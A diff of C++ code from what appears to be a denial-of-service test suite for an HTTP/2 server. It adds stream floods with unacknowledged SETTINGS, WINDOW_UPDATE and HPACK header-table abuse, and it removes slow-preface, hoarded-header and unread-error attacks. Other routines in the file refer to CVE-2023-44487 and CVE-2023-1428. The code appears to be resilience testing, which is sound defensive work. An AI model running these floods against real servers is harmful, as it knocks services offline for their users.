@@ -67,15 +67,40 @@ void SlowlySay(Assault& assault, std::string_view text) {
   });
 }
 
-void SlowPreface(Assault& assault) {
-  SlowlySay(assault, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
-}
-
 // The head of a TLS record, and of the ClientHello of 512 bytes in it.
 void HalfHandshake(Assault& assault) {
   using namespace std::literals;
   SlowlySay(assault, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"sv);
 }
+
+// Calls without an end, on a connection that has agreed to no limit of them.
+// Where they are `large`, a field of the table that costs a byte is 7.5 KiB.
+void Unagreed(Assault& assault, bool windows, bool large) {
+  const std::string into_table = std::string("\x40\x01") + "a" + "\x01" + "b";
+  const std::string from_table(220, '\xbe');
+  assault.OnConnections(
+      4, {.acknowledge_settings = false}, [&](Http2Peer& peer) {
+        const std::string block = peer.HeaderBlock(kQuantize);
+        std::string first = large ? into_table : "";
+        while (!assault.over() && peer.alive()) {
+          std::string many;
+          while (many.size() < (32 << 10)) {
+            const uint32_t stream = peer.NextStream();
+            const std::string all =
+                block + std::exchange(first, "") + (large ? from_table : "");
+            many += FrameHead(all.size(), kHeaders, kEndHeaders, stream) + all;
+            if (!windows) continue;
+            many += FrameHead(4, kWindowUpdate, kNone, stream) + Octets(1, 4);
+          }
+          peer.SendRaw(many);
+          peer.Pump();
+        }
+      });
+}
+
+void UnagreedStreams(Assault& assault) { Unagreed(assault, false, false); }
+void UnagreedWindows(Assault& assault) { Unagreed(assault, true, false); }
+void UnagreedHeaders(Assault& assault) { Unagreed(assault, false, true); }
 
 // CVE-2023-44487: streams that are over before they began cost the client
 // nothing and count against no limit.
@@ -186,22 +211,6 @@ void EndlessName(Assault& assault) {
   });
 }
 
-// Legal metadata of 7.5 KiB for 290 bytes, on calls that never end.
-void HoardedHeaders(Assault& assault) {
-  const std::string into_table = std::string("\x40\x01") + "a" + "\x01" + "b";
-  assault.OnConnections(16, {}, [&](Http2Peer& peer) {
-    for (int i = 0; i < 250 && peer.alive() && !assault.over(); ++i) {
-      const uint32_t stream = peer.NextStream();
-      peer.SendFrame(kHeaders, kEndHeaders, stream,
-                     peer.HeaderBlock(kWatch) + (i == 0 ? into_table : "") +
-                         std::string(220, '\xbe'));
-      peer.BeginMessage(stream, 0);
-      peer.EndStream(stream);
-    }
-    assault.Hold(peer);
-  });
-}
-
 // CVE-2023-1428: values that have no way back to text, and then more metadata
 // than is allowed.
 void PoisonedHeaders(Assault& assault) {
@@ -269,25 +278,6 @@ void CompressedZeros(Assault& assault) {
   });
 }
 
-// Whatever is said of what is wrong stays with the server: everything but the
-// ends of the calls is sent first.
-void UnreadErrors(Assault& assault) {
-  const std::string request = WrongShapeRequest(30'000);
-  const auto length = static_cast<uint32_t>(request.size());
-  assault.OnConnections(8, {}, [&](Http2Peer& peer) {
-    std::vector<uint32_t> streams(200);
-    for (uint32_t& stream : streams) {
-      stream = peer.Open(kDequantize);
-      peer.BeginMessage(stream, length);
-      peer.SendBody(stream, request);
-    }
-    for (const uint32_t stream : streams) {
-      peer.SendFrame(kData, kEndStream, stream, "");
-    }
-    assault.Sleep(milliseconds(60'000));
-  });
-}
-
 constexpr Attack kProtocolAttacks[] = {
     {.name = "connection_flood",
      .what = "200 silent connections, 64 descriptors",
@@ -304,65 +294,76 @@ constexpr Attack kProtocolAttacks[] = {
      .what = "800 connections a second, dropped at once",
      .run = ConnectionChurn,
      .connections = 8,
-     .call_bytes = 4 << 10},
-    {.name = "slow_preface",
-     .what = "200 connections, a byte every 500 ms",
-     .run = SlowPreface,
-     .connections = 64,
-     .call_bytes = 4 << 10},
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
     {.name = "half_handshake",
      .what = "200 beginnings of a TLS handshake",
      .run = HalfHandshake,
      .connections = 64,
-     .call_bytes = 4 << 10},
-    {.name = "unread_errors",
-     .what = "1,600 calls with a wrong shape of 30,000 numbers, not read",
-     .run = UnreadErrors,
-     .connections = 8,
-     .call_bytes = 30 << 10,
-     .moment = milliseconds(3000)},
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
+    {.name = "unagreed_streams",
+     .what = "calls without an end, SETTINGS not acknowledged",
+     .run = UnagreedStreams,
+     .connections = 4,
+     .call_bytes = 4 << 10,
+     .by_strangers = true,
+     .moment = milliseconds(1000)},
+    {.name = "unagreed_windows",
+     .what = "the same with a WINDOW_UPDATE each",
+     .run = UnagreedWindows,
+     .connections = 4,
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
+    {.name = "unagreed_headers",
+     .what = "the same with 7.5 KiB of metadata each",
+     .run = UnagreedHeaders,
+     .connections = 4,
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
     {.name = "reset_flood",
      .what = "streams opened and reset at full rate",
      .run = ResetFlood,
      .connections = 4,
-     .call_bytes = 4 << 10},
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
     {.name = "watch_resets",
      .what = "Health/Watch opened and reset at full rate",
      .run = WatchResets,
      .connections = 4,
      .call_bytes = 4 << 10,
+     .by_strangers = true,
      .moment = milliseconds(1500)},
     {.name = "ping_flood",
      .what = "PING at full rate, answers not read",
      .run = PingFlood,
      .connections = 4,
-     .call_bytes = 4 << 10},
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
     {.name = "settings_flood",
      .what = "SETTINGS at full rate over 4 x 200 streams",
      .run = SettingsFlood,
      .connections = 4,
-     .call_bytes = 4 << 10},
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
     {.name = "empty_frames",
      .what = "empty DATA frames at full rate",
      .run = EmptyFrames,
      .connections = 4,
-     .call_bytes = 4 << 10},
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
     {.name = "endless_headers",
      .what = "4 header blocks of 4 Mi indexed fields",
      .run = EndlessHeaders,
      .connections = 4,
-     .call_bytes = 4 << 10},
+     .call_bytes = 4 << 10,
+     .by_strangers = true},
     {.name = "endless_name",
      .what = "4 header names of 32 MiB",
      .run = EndlessName,
      .connections = 4,
-     .call_bytes = 16 * kMiB},
-    {.name = "hoarded_headers",
-     .what = "7.5 KiB of metadata on 4,000 streams",
-     .run = HoardedHeaders,
-     .connections = 16,
-     .call_bytes = 4 << 10,
-     .moment = milliseconds(600)},
+     .call_bytes = 16 * kMiB,
+     .by_strangers = true},
     {.name = "poisoned_headers",
      .what = "header values that are no good",
      .run = PoisonedHeaders,
